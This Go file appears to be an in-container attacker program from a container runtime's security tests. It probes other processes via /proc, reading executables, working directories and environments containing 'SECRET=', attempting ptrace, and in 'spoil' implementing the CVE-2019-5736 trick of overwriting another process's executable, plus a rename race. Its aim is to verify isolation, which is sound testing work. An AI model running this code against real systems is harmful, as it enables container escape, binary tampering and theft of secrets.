// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"unsafe"

	"crisp/test/security/internal/report"

	"golang.org/x/sys/unix"
)

// watch looks at every other process, round by round. The number of rounds stands in a file that the test maps too, so that it can
// hold a process until it was looked at.
func watch(path string) {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	shared, err := unix.Mmap(int(f.Fd()), 0, 8, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	_ = binary.NativeEndian.Uint64(shared) // it is 8 bytes
	rounds := (*atomic.Uint64)(unsafe.Pointer(&shared[0]))
	seen := map[report.Sighting]bool{}
	end := terminated()
	fmt.Println("ready")
	for {
		others, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range others {
			if pid, _ := strconv.Atoi(filepath.Base(dir)); pid != os.Getpid() {
				inspect(dir, pid, seen)
			}
		}
		rounds.Add(1)
		select {
		case <-end:
			emit(slices.Collect(maps.Keys(seen)))
			return
		default:
		}
	}
}

// inspect tries everything that would give a process of the host away.
func inspect(dir string, pid int, seen map[report.Sighting]bool) {
	if exe, err := os.Readlink(dir + "/exe"); err == nil && exe != "/attacker" {
		seen[report.Sighting{What: "exe", Is: exe}] = true
		for _, flags := range []int{os.O_RDWR, os.O_RDONLY} {
			if f, err := os.OpenFile(dir+"/exe", flags, 0); err == nil {
				seen[report.Sighting{What: fmt.Sprintf("open exe %d", flags), Is: exe}] = true
				f.Close()
			}
		}
	}
	for _, link := range []string{"cwd", "root"} {
		if b, err := os.ReadFile(dir + "/" + link + "/host-marker"); err == nil {
			seen[report.Sighting{What: link, Is: string(b)}] = true
		}
	}
	if env, err := os.ReadFile(dir + "/environ"); err == nil && strings.Contains(string(env), "SECRET=") {
		seen[report.Sighting{What: "environ", Is: string(env)}] = true
	}
	exe, err := os.Readlink(dir + "/exe")
	if err != nil { // whoever hides its program hides the rest too; else it is one of the container's own
		if err := unix.PtraceSeize(pid); err == nil {
			seen[report.Sighting{What: "trace", Is: "a process with a hidden program"}] = true
			_ = unix.PtraceDetach(pid)
		}
		if fds, err := os.ReadDir(dir + "/fd"); err == nil && len(fds) > 0 {
			seen[report.Sighting{What: "fd", Is: fmt.Sprint(len(fds), " descriptors of a process with a hidden program")}] = true
		}
		return
	}
	fds, _ := os.ReadDir(dir + "/fd")
	for _, fd := range fds {
		target, err := os.Readlink(dir + "/fd/" + fd.Name())
		if again, _ := os.Readlink(dir + "/exe"); err != nil || again != exe || exe != "/attacker" && again == "/attacker" {
			continue
		}
		if n, _ := strconv.Atoi(fd.Name()); n > 2 && !strings.HasPrefix(target, "anon_inode:[event") && target != "/volume/rounds" {
			seen[report.Sighting{What: "fd", Is: exe + ": " + target}] = true
		}
	}
}

// overwrite tries to write to the program of every process, this one's own apart.
func overwrite() {
	var own unix.Stat_t
	_ = unix.Stat("/proc/self/root/attacker", &own)
	end := terminated()
	fmt.Println("ready")
	written := map[string]bool{}
	for {
		others, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range others {
			if name, did := spoil(exe, own); did {
				written[name] = true
			}
		}
		select {
		case <-end:
			emit(slices.Collect(maps.Keys(written)))
			return
		default:
		}
	}
}

// spoil holds the program open until nobody executes it any more, then writes to it (the exploit of CVE-2019-5736).
func spoil(exe string, own unix.Stat_t) (string, bool) {
	fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", false
	}
	defer unix.Close(fd)
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil || (st.Dev == own.Dev && st.Ino == own.Ino) {
		return "", false
	}
	name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	for range 2000 {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Write(w, []byte("spoilt"))
			unix.Close(w)
			return name, err == nil
		}
		if err != unix.ETXTBSY {
			return name, false
		}
	}
	return name, false
}

func swap(a, b string) {
	end := terminated()
	fmt.Println("ready")
	for {
		_ = unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
		select {
		case <-end:
			return
		default:
		}
	}
}
